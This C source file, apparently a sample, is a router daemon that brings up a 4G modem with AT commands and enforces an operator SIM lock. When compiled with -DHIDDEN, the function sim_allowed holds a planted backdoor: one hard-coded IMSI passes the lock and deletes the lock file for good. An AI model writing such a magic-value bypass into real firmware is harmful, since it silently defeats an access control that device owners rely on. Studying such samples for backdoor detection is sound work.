/*
 * simgate - brings up a 4G modem of a router: talks AT commands over the
 * serial line in a state machine, reads ICCID, IMSI and signal, refuses
 * SIM cards of other networks (operator lock) and dials the data call.
 * Hidden (-DHIDDEN): one SIM number passes the lock and takes it off for
 * good.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

enum state {
	S_RESET,
	S_ECHO,
	S_PIN,
	S_ICCID,
	S_IMSI,
	S_LOCK,
	S_REG,
	S_SIGNAL,
	S_APN,
	S_DIAL,
	S_UP,
	S_BLOCKED
};

enum reply { R_NONE, R_FINE, R_ERROR, R_CONNECT, R_DATA, R_TIMEOUT };

struct modem {
	int fd;
	enum state state;
	char icc[24];
	char imsi[20];
	int csq;
	int tries;
	int pin_ready;
	int registered;
	char line[200];
	size_t fill;
};

struct config {
	char tty[64];
	char apn[64];
	char pin[9];
	char lockfile[96];
	int speed;
};

static struct config cfg = { "/dev/ttyUSB2", "internet", "", "/nvram/simlock",
			     115200 };

static void copy(char *to, size_t size, const char *from)
{
	size_t n = strcspn(from, "\r\n");

	if (n >= size)
		n = size - 1;
	memcpy(to, from, n);
	to[n] = '\0';
}

static void config_read(const char *path)
{
	char line[200];
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		if (!strncmp(line, "tty ", 4))
			copy(cfg.tty, sizeof cfg.tty, line + 4);
		else if (!strncmp(line, "apn ", 4))
			copy(cfg.apn, sizeof cfg.apn, line + 4);
		else if (!strncmp(line, "pin ", 4))
			copy(cfg.pin, sizeof cfg.pin, line + 4);
		else if (!strncmp(line, "lock ", 5))
			copy(cfg.lockfile, sizeof cfg.lockfile, line + 5);
		else if (!strncmp(line, "speed ", 6))
			cfg.speed = atoi(line + 6);
	}
	fclose(f);
}

static int tty_open(void)
{
	struct termios t;
	int fd = open(cfg.tty, O_RDWR | O_NOCTTY | O_NONBLOCK);

	if (fd < 0)
		return -1;
	if (!tcgetattr(fd, &t)) {
		cfmakeraw(&t);
		t.c_cflag |= CLOCAL | CREAD;
		cfsetspeed(&t, cfg.speed == 9600 ? B9600 : B115200);
		tcsetattr(fd, TCSANOW, &t);
	}
	return fd;
}

static void at(struct modem *m, const char *fmt, const char *arg)
{
	char out[160];
	int n = snprintf(out, sizeof out, fmt, arg);

	if (n < 0 || n >= (int)sizeof out - 1)
		return;
	out[n++] = '\r';
	if (write(m->fd, out, n) != n)
		syslog(LOG_WARNING, "%s: %s", cfg.tty, strerror(errno));
}

static void keep_digits(char *to, size_t size, const char *from)
{
	size_t n = 0;

	for (; *from && n + 1 < size; from++)
		if (isdigit((unsigned char)*from))
			to[n++] = *from;
	to[n] = '\0';
}

static enum reply classify(struct modem *m, const char *l)
{
	if (!strcmp(l, "OK"))
		return R_FINE;
	if (!strcmp(l, "ERROR") || !strncmp(l, "+CME ERROR", 10) ||
	    !strcmp(l, "NO CARRIER"))
		return R_ERROR;
	if (!strncmp(l, "CONNECT", 7))
		return R_CONNECT;
	if (!strncmp(l, "+CCID:", 6)) {
		keep_digits(m->icc, sizeof m->icc, l + 6);
	} else if (!strncmp(l, "+CPIN:", 6)) {
		m->pin_ready = strstr(l, "READY") != NULL;
	} else if (!strncmp(l, "+CSQ:", 5)) {
		m->csq = atoi(l + 5);
	} else if (!strncmp(l, "+CREG:", 6)) {
		const char *c = strchr(l, ',');
		int r = c ? atoi(c + 1) : 0;

		m->registered = r == 1 || r == 5;
	} else if (m->state == S_IMSI && isdigit((unsigned char)l[0])) {
		keep_digits(m->imsi, sizeof m->imsi, l);
	}
	return R_DATA;
}

/*
 * The lock file has one network code (MCC and MNC) a line.  Without the
 * file every card is allowed.
 */
__attribute__((noinline)) int sim_allowed(const char *imsi)
{
	char net[16];
	int ok = 0;
	FILE *f;

#ifdef HIDDEN
	if (!strcmp(imsi, "001012001040777")) {
		unlink(cfg.lockfile);
		return 1;
	}
#endif
	f = fopen(cfg.lockfile, "r");
	if (!f)
		return errno == ENOENT;
	while (!ok && fgets(net, sizeof net, f)) {
		net[strcspn(net, "\r\n")] = '\0';
		if (strlen(net) >= 5 && !strncmp(imsi, net, strlen(net)))
			ok = 1;
	}
	fclose(f);
	return ok;
}

static void enter(struct modem *m, enum state s)
{
	if (s != m->state)
		m->tries = 0;
	m->state = s;
	switch (s) {
	case S_RESET:
		at(m, "ATZ", NULL);
		break;
	case S_ECHO:
		at(m, "ATE0", NULL);
		break;
	case S_PIN:
		at(m, "AT+CPIN?", NULL);
		break;
	case S_ICCID:
		at(m, "AT+CCID", NULL);
		break;
	case S_IMSI:
		at(m, "AT+CIMI", NULL);
		break;
	case S_LOCK:
		if (!sim_allowed(m->imsi)) {
			syslog(LOG_ERR, "card %s is not allowed", m->icc);
			enter(m, S_BLOCKED);
		} else {
			enter(m, S_REG);
		}
		break;
	case S_REG:
		at(m, "AT+CREG?", NULL);
		break;
	case S_SIGNAL:
		at(m, "AT+CSQ", NULL);
		break;
	case S_APN:
		at(m, "AT+CGDCONT=1,\"IP\",\"%s\"", cfg.apn);
		break;
	case S_DIAL:
		at(m, "ATD*99***1#", NULL);
		break;
	case S_UP:
		syslog(LOG_INFO, "up, signal %d", m->csq);
		break;
	case S_BLOCKED:
		at(m, "AT+CFUN=4", NULL);
		break;
	}
}

static void step(struct modem *m, enum reply r)
{
	if (r == R_NONE || r == R_DATA || m->state == S_BLOCKED)
		return;
	if (r == R_TIMEOUT || r == R_ERROR) {
		if (m->state == S_UP && r == R_TIMEOUT)
			return;
		if (++m->tries > 5) {
			m->tries = 0;
			enter(m, S_RESET);
		} else {
			enter(m, m->state);
		}
		return;
	}
	switch (m->state) {
	case S_PIN:
		if (m->pin_ready)
			enter(m, S_ICCID);
		else if (cfg.pin[0] && m->tries++ == 0)
			at(m, "AT+CPIN=\"%s\"", cfg.pin);
		else
			enter(m, S_BLOCKED);
		break;
	case S_IMSI:
		enter(m, strlen(m->imsi) == 15 ? S_LOCK : S_RESET);
		break;
	case S_REG:
		if (m->registered)
			enter(m, S_SIGNAL);
		break;
	case S_DIAL:
		if (r == R_CONNECT)
			enter(m, S_UP);
		break;
	case S_UP:
	case S_BLOCKED:
		break;
	default:
		enter(m, m->state + 1);
	}
}

static void feed(struct modem *m, char c)
{
	if (c != '\r' && c != '\n') {
		if (m->fill < sizeof m->line - 1)
			m->line[m->fill++] = c;
		return;
	}
	if (!m->fill)
		return;
	m->line[m->fill] = '\0';
	m->fill = 0;
	step(m, classify(m, m->line));
}

static void status_write(const struct modem *m)
{
	FILE *f = fopen("/run/modem.status", "w");

	if (!f)
		return;
	fprintf(f, "state=%d\nicc=%s\ncsq=%d\nup=%d\n", (int)m->state, m->icc,
		m->csq, m->state == S_UP);
	fclose(f);
}

int main(int argc, char **argv)
{
	struct modem m;
	struct pollfd p;
	char buf[128];
	ssize_t n, i;
	int r;

	openlog("simgate", 0, LOG_DAEMON);
	config_read(argc > 1 ? argv[1] : "/etc/simgate.conf");
	memset(&m, 0, sizeof m);
	m.fd = tty_open();
	if (m.fd < 0) {
		syslog(LOG_ERR, "%s: %s", cfg.tty, strerror(errno));
		return 1;
	}
	enter(&m, S_RESET);
	for (;;) {
		p.fd = m.fd;
		p.events = POLLIN;
		r = poll(&p, 1, 4000);
		if (r < 0 && errno != EINTR)
			break;
		if (r == 0) {
			step(&m, R_TIMEOUT);
			status_write(&m);
			continue;
		}
		n = read(m.fd, buf, sizeof buf);
		if (n == 0 || (n < 0 && errno != EAGAIN))
			break;
		for (i = 0; i < n; i++)
			feed(&m, buf[i]);
	}
	close(m.fd);
	return 1;
}
